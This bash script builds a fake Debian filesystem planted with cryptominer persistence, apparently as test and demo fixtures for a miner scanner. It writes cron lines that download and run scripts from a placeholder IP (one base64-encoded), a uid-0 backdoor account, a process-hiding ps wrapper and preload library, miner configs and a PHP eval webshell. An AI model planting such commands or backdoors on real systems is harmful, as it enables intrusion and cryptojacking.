#!/usr/bin/env bash
# Writes a small Linux root tree into DIR with the persistence a miner infection
# leaves behind, one artifact per minescan check and family, beside the ordinary files
# of a Debian server. Used for the demo image and the planted-artifact tests; every
# binary is a harmless stand-in that only carries the strings a real one would.
#
#   images/plant-infection.sh DIR [--clean]
#
# With --clean only the ordinary files are written (the clean counterpart).
# Inode flags (chattr +i) do not travel with a directory tree: the files the attacker
# locked are listed in images/infected-immutable.list, which build-image.sh applies.
set -euo pipefail

root=${1:?usage: plant-infection.sh DIR [--clean]}
clean=${2:-}
mkdir -p "$root"
cd "$root"

w() { # w PATH MODE <<<content
  mkdir -p "$(dirname "./$1")"
  cat > "./$1"
  chmod "$2" "./$1"
}

# A stand-in ELF: the magic, then the strings a scanner would read in the real binary.
elf() { # elf PATH TEXT
  mkdir -p "$(dirname "./$1")"
  { printf '\177ELF\002\001\001\000\000\000\000\000\000\000\000\000'; printf '%s\n' "$2"; } > "./$1"
  chmod 0755 "./$1"
}

mkdir -p bin sbin usr/bin usr/sbin usr/lib lib tmp var/tmp var/log var/lib/dpkg/info \
  etc/cron.d etc/cron.daily etc/cron.hourly etc/cron.weekly etc/cron.monthly \
  var/spool/cron/crontabs etc/systemd/system/multi-user.target.wants lib/systemd/system \
  etc/init.d root home/admin/.ssh dev proc sys run
chmod 1777 tmp var/tmp

# --- ordinary Debian server files -------------------------------------------------
w etc/passwd 0644 <<'EOF'
root:x:0:0:root:/root:/bin/bash
daemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin
bin:x:2:2:bin:/bin:/usr/sbin/nologin
sys:x:3:3:sys:/dev:/usr/sbin/nologin
sync:x:4:65534:sync:/bin:/bin/sync
games:x:5:60:games:/usr/games:/usr/sbin/nologin
www-data:x:33:33:www-data:/var/www:/usr/sbin/nologin
nobody:x:65534:65534:nobody:/nonexistent:/usr/sbin/nologin
systemd-network:x:998:998:systemd Network Management:/:/usr/sbin/nologin
sshd:x:100:65534::/run/sshd:/usr/sbin/nologin
admin:x:1000:1000:Admin,,,:/home/admin:/bin/bash
EOF
w etc/shadow 0640 <<'EOF'
root:$y$j9T$Q1nq0o2v3HhP0yZ6F9bX5.$Lq3b4l0wJp8xUqk1o7rT3nZ2yW8aVd6cFhG9eK1mN0P:19700:0:99999:7:::
daemon:*:19700:0:99999:7:::
bin:*:19700:0:99999:7:::
sys:*:19700:0:99999:7:::
sync:*:19700:0:99999:7:::
games:*:19700:0:99999:7:::
www-data:*:19700:0:99999:7:::
nobody:*:19700:0:99999:7:::
systemd-network:!*:19700::::::
sshd:!:19700::::::
admin:$y$j9T$aB3dE5gH7jK9mN1pQ3sT5.$uV7wX9yZ1bC3dE5fG7hJ9kL1mN3pQ5rS7tU9vW1xY3z:19700:0:99999:7:::
EOF
w etc/group 0644 <<'EOF'
root:x:0:
sudo:x:27:admin
admin:x:1000:
EOF
w etc/crontab 0644 <<'EOF'
# /etc/crontab: system-wide crontab
SHELL=/bin/sh
PATH=/usr/local/sbin:/usr/local/bin:/sbin:/bin:/usr/sbin:/usr/bin

17 *	* * *	root	cd / && run-parts --report /etc/cron.hourly
25 6	* * *	root	test -x /usr/sbin/anacron || { cd / && run-parts --report /etc/cron.daily; }
47 6	* * 7	root	test -x /usr/sbin/anacron || { cd / && run-parts --report /etc/cron.weekly; }
52 6	1 * *	root	test -x /usr/sbin/anacron || { cd / && run-parts --report /etc/cron.monthly; }
EOF
w etc/cron.d/e2scrub_all 0644 <<'EOF'
30 3 * * 0 root test -e /run/systemd/system || SERVICE_MODE=1 /usr/lib/x86_64-linux-gnu/e2fsprogs/e2scrub_all_cron
10 3 * * * root test -e /run/systemd/system || SERVICE_MODE=1 /sbin/e2scrub_all -A -r
EOF
w etc/cron.daily/logrotate 0755 <<'EOF'
#!/bin/sh
# skip in favour of systemd timer
if [ -d /run/systemd/system ]; then
    exit 0
fi
/usr/sbin/logrotate /etc/logrotate.conf
EOF
w lib/systemd/system/ssh.service 0644 <<'EOF'
[Unit]
Description=OpenBSD Secure Shell server
After=network.target auditd.service
ConditionPathExists=!/etc/ssh/sshd_not_to_be_run

[Service]
EnvironmentFile=-/etc/default/ssh
ExecStartPre=/usr/sbin/sshd -t
ExecStart=/usr/sbin/sshd -D $SSHD_OPTS
ExecReload=/usr/sbin/sshd -t
ExecReload=/bin/kill -HUP $MAINPID
KillMode=process
Restart=on-failure
RuntimeDirectory=sshd

[Install]
WantedBy=multi-user.target
Alias=sshd.service
EOF
ln -sf /lib/systemd/system/ssh.service etc/systemd/system/multi-user.target.wants/ssh.service
w etc/init.d/cron 0755 <<'EOF'
#!/bin/sh
### BEGIN INIT INFO
# Provides:          cron
# Required-Start:    $remote_fs $syslog $time
# Default-Start:     2 3 4 5
### END INIT INFO
DAEMON=/usr/sbin/cron
test -x $DAEMON || exit 0
. /lib/lsb/init-functions
case "$1" in
start) start-stop-daemon --start --quiet --pidfile /var/run/crond.pid --name cron --startas $DAEMON ;;
stop) start-stop-daemon --stop --quiet --pidfile /var/run/crond.pid --name cron ;;
esac
EOF
w home/admin/.ssh/authorized_keys 0600 <<'EOF'
ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAICPK765vfQS5gzUePjeMdv0c33hhl3qriigTiTwaX6c9 admin@example
EOF
elf usr/bin/top 'procps-ng top'
elf usr/bin/pstree 'psmisc pstree'
elf usr/sbin/cron 'cron daemon'
w var/lib/dpkg/info/procps.list 0644 <<'EOF'
/usr/bin/ps
/usr/bin/top
EOF
w var/lib/dpkg/info/psmisc.list 0644 <<'EOF'
/usr/bin/pstree
EOF
w var/lib/dpkg/info/cron.list 0644 <<'EOF'
/usr/sbin/cron
/etc/init.d/cron
EOF
w var/log/auth.log 0640 <<'EOF'
Nov  2 03:12:01 web1 sshd[811]: Accepted publickey for admin from 192.0.2.10 port 50522 ssh2: ED25519 SHA256:x
Nov  2 03:12:01 web1 sshd[811]: pam_unix(sshd:session): session opened for user admin(uid=1000) by (uid=0)
EOF

w etc/hosts 0644 <<'EOF'
127.0.0.1	localhost
127.0.1.1	web1.example.internal web1
10.0.0.5	db01.internal db01
::1	localhost ip6-localhost ip6-loopback
EOF
w etc/cron.d/healthcheck 0644 <<'EOF'
*/5 * * * * root curl -fsS -m 10 --retry 5 -o /dev/null https://hc-ping.com/3f1c0a5e-1b2c-4d5e-8f90-123456789abc
EOF

if [ "$clean" = --clean ]; then
  elf usr/bin/ps 'procps-ng ps'
  exit 0
fi

# --- the infection -----------------------------------------------------------------
# Accounts: a second uid-0 account with a known bad name, created by useradd.
echo 'shaojiang99:x:0:0::/home/shaojiang99:/bin/bash' >> etc/passwd
echo 'shaojiang99:$6$Qk0mZ1$8ZqvH0e3K3o6JmZc0GQ3nPpQnY2yFv8s3a0W5u2d6xq9Xc1rT4bV7nM2kL5jH8gF1dS4aQ7wE0rT3yU6iO9pA.:19701:0:99999:7:::' >> etc/shadow
mkdir -p home/shaojiang99
cat >> var/log/auth.log <<'EOF'
Nov  3 01:02:03 web1 useradd[4242]: new user: name=shaojiang99, UID=0, GID=0, home=/home/shaojiang99, shell=/bin/bash, from=/dev/pts/1
EOF

# Cron: download-and-run, a base64 payload, hidden/temporary paths, known indicators.
cat >> etc/crontab <<'EOF'
*/10 * * * * root (curl -fsSL http://198.51.100.7/upat.sh || wget -q -O- http://198.51.100.7/upat.sh) | sh
EOF
w etc/cron.d/syslogd 0644 <<'EOF'
*/5 * * * * root /tmp/.X2xi-unix/.rsync/c/tsm >/dev/null 2>&1
EOF
w etc/cron.hourly/0 0755 <<'EOF'
#!/bin/sh
wget -q http://198.51.100.7/gi.sh -O- | bash
EOF
w var/spool/cron/crontabs/root 0600 <<'EOF'
5 6 * * 0 /root/.configrc5/a/upd>/dev/null 2>&1
@reboot /root/.configrc5/a/upd>/dev/null 2>&1
*/30 * * * * echo Y3VybCAtZnNTTCBodHRwOi8vMTk4LjUxLjEwMC43L2dpLnNoIHwgYmFzaA== | base64 -d | bash
EOF
elf tmp/.X2xi-unix/.rsync/c/tsm 'outlaw tsm scanner'
w root/.configrc5/a/upd 0755 <<'EOF'
#!/bin/sh
cd /root/.configrc5/a && ./kswapd0 --donate-level 1 -o 198.51.100.7:443 -k
EOF

# Services: the miner disguised as Alibaba Cloud's agent, enabled; Kinsing's bot.service.
w etc/systemd/system/A_li_yun_Duns.service 0644 <<'EOF'
[Unit]
Description=A_li_yun_Duns
After=network.target

[Service]
Type=simple
ExecStart=/opt/sysetmd/sysetmd --donate-level 1 -o pool.supportxmr.com:3333 -u 44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A
Restart=always

[Install]
WantedBy=multi-user.target
EOF
ln -sf ../A_li_yun_Duns.service etc/systemd/system/multi-user.target.wants/A_li_yun_Duns.service
elf opt/sysetmd/sysetmd 'XMRig 6.21.0 donate-level stratum+tcp:// randomx'
w lib/systemd/system/bot.service 0644 <<'EOF'
[Unit]
Description=bot

[Service]
ExecStart=/etc/kinsing
Restart=always

[Install]
WantedBy=multi-user.target
EOF
elf etc/kinsing 'kinsing loader'
w etc/rc.local 0755 <<'EOF'
#!/bin/sh -e
nohup /var/tmp/.ice-unix/kdevtmpfsi >/dev/null 2>&1 &
exit 0
EOF
elf var/tmp/.ice-unix/kdevtmpfsi 'XMRig kdevtmpfsi'
elf tmp/kdevtmpfsi 'XMRig kdevtmpfsi'

# ld.so.preload: Kinsing's process-hiding library.
w etc/ld.so.preload 0644 <<'EOF'
/etc/libsystem.so
EOF
elf etc/libsystem.so 'readdir hook libsystem'

# SSH: Outlaw's key beside the admin's, in a file made immutable.
w root/.ssh/authorized_keys 0600 <<'EOF'
ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQDVVxkrmKu1bEJeclQQdMhGiH/5F25GpYja7PnpBsmCJKPTR4PMe7xTRVjPgBYxbxrZbiaa0oSb48MrbVyzAARkFy6PPgenN1bxd3sEcgtA4q7M6bwe51ACqDEaWTEW6kn4Rk79lmWfqVe3edkVlbs1KkZMK4FPFLgBe+qKT3iC8y/FAUzHVojGSdbLGFFHEzDlxBq+9zoLvVaExGhH5ajrHB0rKTvHkBMy2mEDVEO8ul9D49kdPzyAlwo3Nib1OaYPEbDQ0GrmkOiQeVreonqO71181DxMfxbNkzDwcEwRKMzzJ1IwpE7NMXfEJaMUzuPRpnEACMLCveqloSz22QIl mdrfckr
EOF

# Hijacked command: ps moved aside, a wrapper that hides the miner put in its place.
elf usr/bin/ps.original 'procps-ng ps'
w usr/bin/ps 0755 <<'EOF'
#!/bin/bash
/usr/bin/ps.original "$@" | grep -v -E 'kdevtmpfsi|sysetmd|kswapd0|tsm'
EOF

# Other families' droppers.
elf usr/bin/cleanfda 'cleanfda miner dropper'
elf usr/bin/kaudited 'skidmap kaudited'

# --- no family: what minescan finds by behaviour -----------------------------------
# An innocent-looking cron job whose program is an XMRig build (its strings give it away;
# the cron line is raised because of what it starts), a miner config in a hidden
# directory naming a pool and a wallet, the cloud security agent's update domains cut
# off in /etc/hosts, and a PHP webshell among a site's uploads.
elf usr/local/bin/backup-rotate "$(printf '%s\n' 'XMRig/6.21.0' 'donate.v2.xmrig.com' 'rx/0' 'cryptonight' 'stratum+tcp://' '--donate-level=N')"
w etc/cron.d/backup-rotate 0644 <<'EOF'
*/5 * * * * root /usr/local/bin/backup-rotate --quiet
EOF
w var/tmp/.ICE-unix/.x/c.json 0644 <<'EOF'
{
    "autosave": true,
    "background": true,
    "cpu": { "enabled": true, "max-threads-hint": 75 },
    "donate-level": 0,
    "pools": [
        {
            "algo": "rx/0",
            "url": "gulf.moneroocean.stream:10128",
            "user": "4AMASi45ub7Qe4ZE36UT5G6cU4ud8Fhhe4deS4F3cw9KTAb8dLcukC7edhDQ7cn5d4gEYkbUrMWeWQLGsCmrG6dLaYyNoVK",
            "pass": "x"
        }
    ]
}
EOF
w etc/hosts 0644 <<'EOF'
127.0.0.1	localhost
127.0.1.1	web1.example.internal web1
10.0.0.5	db01.internal db01
127.0.0.1	update.aegis.aliyun.com
127.0.0.1	jsrv.aegis.aliyun.com
::1	localhost ip6-localhost ip6-loopback
EOF
w var/www/html/uploads/2026/11/thumb.php 0644 <<'EOF'
<?php @eval($_POST['pass']); ?>
EOF
